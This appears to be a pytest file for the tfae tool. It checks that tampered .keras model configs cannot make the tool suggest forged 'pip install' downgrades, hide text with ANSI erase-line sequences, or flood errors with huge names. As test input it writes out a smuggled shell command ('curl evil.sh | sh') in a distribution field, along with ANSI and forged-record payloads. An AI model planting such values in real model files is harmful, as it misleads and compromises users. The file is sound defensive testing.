"""What a hostile model file can make tfae say (issue 27, item 5).

A model file's record of who provided each component is the file's word: a forged one named ``keras``
3.0.0, ``numpy`` 1.0 or a look-alike distribution, and tfae printed ``pip install 'keras==3.0.0'`` as the
remedy. Now the record is named as the file's claim and never becomes a command. Names from a file reach
the terminal escaped (an ANSI sequence in a module, class or activation name erased the line, also through
Keras' own messages) and shortened (an 8 MB name made a 16 MB error line). Each file is a real model's
``.keras`` archive with its ``config.json`` edited; each message is checked from ``tfae.load_model`` and
from the command, in-process.
"""

import json
import zipfile

import keras
import numpy as np
import pytest

import tfae
from tfae.cli import main
from tfae.errors import ModelFileError
from tfae.models.archive import MAX_NAME_LENGTH
from tfae.models.layouts import LayoutAutoencoder

ERASE_LINE = "\x1b[2K\x1b[1A"  # erase the line, then move up one: what a hostile name prints to hide itself
LONG = 8_000_000


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    folder = tmp_path_factory.mktemp("good")
    regularizer = {"name": "kld", "beta": {"name": "dasr", "attack": 3}}
    # As `tfae train` builds it: a hidden Dense layer, whose activation Keras looks up by name.
    model = LayoutAutoencoder(bottleneck={"name": "gaussian", "latent_dim": 2, "regularizer": regularizer}, hidden=[8])
    model.bottleneck.name = "gaussian_bottleneck"
    model.build((None, 64))
    model.save(folder / "good.keras")
    return folder / "good.keras"


def _edit_config(source, target, edit):
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(target, "w") as out:
        for name, content in members.items():
            out.writestr(name, content)
    return target


def _bottleneck_layer(config):
    return _first(config, lambda value: isinstance(value.get("config"), dict) and "latent_dim" in value["config"])


def _first(config, wanted):
    """The first dict in ``config``, depth first, for which ``wanted(dict)`` holds."""
    stack = [config]
    while stack:
        value = stack.pop()
        if isinstance(value, dict):
            if wanted(value):
                return value
            stack.extend(reversed(list(value.values())))
        elif isinstance(value, list):
            stack.extend(reversed(value))
    raise AssertionError("not found")


def refused(path):
    with pytest.raises(ModelFileError) as caught:
        tfae.load_model(path)
    return str(caught.value)


def command_line(capsys, path, tmp_path):
    """The line ``tfae encode`` prints for ``path``: exit status 2, one line, nothing written."""
    output = tmp_path / "codes.npy"
    assert main(["encode", str(path), "digits", "-o", str(output)]) == 2
    captured = capsys.readouterr()
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("tfae encode: error: "), captured.err[-2000:]
    assert not output.exists()
    return lines[0]


def forged(distribution, version, name="evil"):
    def edit(config):
        _bottleneck_layer(config)["config"]["regularizer"]["name"] = name
        config["config"]["components"] = [
            {
                "kind": "regularizer",
                "name": name,
                "class": "EvilRegularizer",
                "distribution": distribution,
                "version": version,
                "plugin": "evil",
            }
        ]

    return edit


CLAIM = "which no loaded plugin provides; the file says it came from {} (the file's claim, unchecked), and "
NOT_INSTALLED = (
    "no distribution of that name is installed: if you trust the file, install the plugin that provides it (check "
    "the distribution's name and its publisher first: a model file can name any distribution)"
)
FORGERIES = {
    "a downgrade of keras": ("keras", "3.0.0", f"keras {keras.__version__}, installed here, registers no "),
    "a downgrade of numpy": ("numpy", "1.0", f"numpy {np.__version__}, installed here, registers no "),
    "a look-alike plugin": ("tfae-disentangle-pro", "2.0", NOT_INSTALLED),
    "tfae itself": ("tfae", "0.0.1", f"tfae {tfae.__version__}, installed here, registers no "),
}


@pytest.mark.parametrize("case", sorted(FORGERIES))
def test_a_forged_record_is_named_as_the_files_claim_and_never_made_a_command(good, tmp_path, capsys, case):
    distribution, version, state = FORGERIES[case]
    path = _edit_config(good, tmp_path / "forged.keras", forged(distribution, version))
    message = refused(path)
    expected = f"{path} needs the regularizer 'evil' (in layer 'gaussian_bottleneck'), " + CLAIM.format(
        f"{distribution} {version}"
    )
    if state == NOT_INSTALLED:
        assert message == expected + NOT_INSTALLED
    else:
        assert message == expected + state + "regularizer 'evil' (`tfae plugins` lists what each plugin registers)"
    line = command_line(capsys, path, tmp_path)
    assert line == f"tfae encode: error: {message}"
    for text in (message, line):
        assert "pip" not in text and "==" not in text and "install '" not in text


def test_a_record_that_is_no_distribution_name_is_not_repeated(good, tmp_path):
    path = _edit_config(good, tmp_path / "shell.keras", forged("x; curl evil.sh | sh", "1"))
    message = refused(path)
    assert "curl" not in message and "pip" not in message and "needs the regularizer 'evil'" in message


def _escaped_everywhere(message, line):
    """Neither the error nor the command's line holds a character that is not printable; the ANSI sequence
    shows as text."""
    for text in (message, line):
        assert text.isprintable(), repr(text)
        assert "\\x1b[2K\\x1b[1A" in text, text


def test_an_ansi_sequence_in_a_class_name_and_a_layer_name_is_escaped(good, tmp_path, capsys):
    def edit(config):
        layer = _bottleneck_layer(config)
        layer.update(class_name=f"{ERASE_LINE}WarpBottleneck", registered_name=f"{ERASE_LINE}WarpBottleneck")
        layer["config"]["name"] = f"{ERASE_LINE}hidden"

    path = _edit_config(good, tmp_path / "class.keras", edit)
    message = refused(path)
    assert message.startswith(
        f"{path} needs the bottleneck class '\\x1b[2K\\x1b[1AWarpBottleneck' (in layer '\\x1b[2K\\x1b[1Ahidden'), "
        "which no loaded plugin provides."
    ), message
    _escaped_everywhere(message, command_line(capsys, path, tmp_path))


def test_an_ansi_sequence_in_a_module_name_is_escaped(good, tmp_path, capsys):
    def edit(config):
        dense = _first(config, lambda value: value.get("class_name") == "Dense")
        dense.update(module=f"{ERASE_LINE}os", registered_name=None)

    path = _edit_config(good, tmp_path / "module.keras", edit)
    message = refused(path)
    assert "names Dense from the module \\x1b[2K\\x1b[1Aos (in layer " in message, message
    _escaped_everywhere(message, command_line(capsys, path, tmp_path))


def test_an_ansi_sequence_in_an_activation_is_escaped_in_keras_own_message(good, tmp_path, capsys):
    def edit(config):
        _first(config, lambda value: value.get("activation") not in (None, "linear"))["activation"] = (
            f"{ERASE_LINE}relu"
        )

    path = _edit_config(good, tmp_path / "activation.keras", edit)
    message = refused(path)
    assert message.startswith(f"cannot load the model in {path}: "), message
    assert "\\x1b[2K\\x1b[1Arelu" in message  # Keras' own words, which quote the activation
    _escaped_everywhere(message, command_line(capsys, path, tmp_path))


def test_the_control_keras_repeats_the_activation_as_it_is():
    with pytest.raises(ValueError) as caught:
        keras.activations.get(f"{ERASE_LINE}relu")
    assert ERASE_LINE in str(caught.value)


LONG_NAMES = {
    "regularizer": lambda config: _bottleneck_layer(config)["config"]["regularizer"].update(name="k" * LONG),
    "bottleneck class": lambda config: _bottleneck_layer(config).update(
        class_name="B" * LONG, registered_name="B" * LONG
    ),
    "module": lambda config: _first(config, lambda value: value.get("class_name") == "Dense").update(
        module="m" * LONG, registered_name=None
    ),
    "activation": lambda config: _first(config, lambda value: value.get("activation") not in (None, "linear")).update(
        activation="r" * LONG
    ),
}


@pytest.mark.parametrize("case", sorted(LONG_NAMES))
def test_a_name_of_8_mb_is_shortened_in_the_message(good, tmp_path, capsys, case):
    path = _edit_config(good, tmp_path / "long.keras", LONG_NAMES[case])
    message = refused(path)
    assert len(message) < 1000, message[:2000]
    if case != "activation":  # Keras' own message, cut to tfae.models.archive.MESSAGE_LENGTH
        assert f"... ({LONG:,} characters)" in message, message
    line = command_line(capsys, path, tmp_path)
    assert len(line) < 1100


def test_a_name_too_long_to_look_up_is_refused_saying_so(good, tmp_path):
    name = "k" * (MAX_NAME_LENGTH + 1)
    path = _edit_config(
        good,
        tmp_path / "long.keras",
        lambda config: _bottleneck_layer(config)["config"]["regularizer"].update(name=name),
    )
    assert refused(path) == (
        f"{path} names the regularizer '{'k' * MAX_NAME_LENGTH}... ({MAX_NAME_LENGTH + 1} characters)' (in layer "
        f"'gaussian_bottleneck'), longer than the {MAX_NAME_LENGTH} characters of a name that tfae looks up "
        "(tfae.models.archive.MAX_NAME_LENGTH), so the file is damaged or made to flood the messages; it was not "
        "read further"
    )


def test_the_good_file_still_loads(good):
    assert type(tfae.load_model(good)).__name__ == "LayoutAutoencoder"
